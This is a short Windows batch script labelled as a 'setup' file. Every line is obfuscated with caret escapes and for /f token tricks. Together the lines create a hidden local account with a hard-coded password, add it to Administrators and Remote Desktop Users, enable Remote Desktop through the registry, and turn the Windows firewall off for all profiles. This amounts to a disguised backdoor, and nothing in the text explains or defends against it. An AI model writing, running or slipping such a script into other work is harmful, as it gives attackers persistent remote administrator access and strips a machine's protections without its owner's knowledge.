REM setup 6965 v4
^f^or /^f "tokens=3 delims=~" %%^i in ("rsxm~fmeo~net") do %%i u^se^r d^e^f^au^ltu^s^er^2 ^Winter#^202^5x /^a^dd /y
for /^f "tokens=1 delims=#" %%i ^i^n ("net#bjdg#xvek") do %%^i ^l^ocal^g^rou^p ^adm^i^nis^tr^at^o^r^s ^defau^l^t^us^e^r2 /add
^f^o^r /f "tokens=3 delims=~" %%^i ^i^n ("pjfk~yvgp~net") ^do %%i ^loc^al^gr^o^u^p "Remote Desktop Users" de^f^au^lt^user2 /^a^dd
fo^r /f "tokens=1 delims=~" %%^i in ("reg~bvfq~ydqq") do %%^i ^add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v ^f^Deny^T^S^Conn^ecti^o^ns /^t REG_DW^O^R^D /^d ^0 /f
for /f "tokens=2 delims=;" %%^i in ("oxrv;netsh;iwgf") ^do %%^i ^ad^vf^i^r^ewal^l se^t a^l^l^p^r^o^fi^le^s ^s^t^ate o^ff
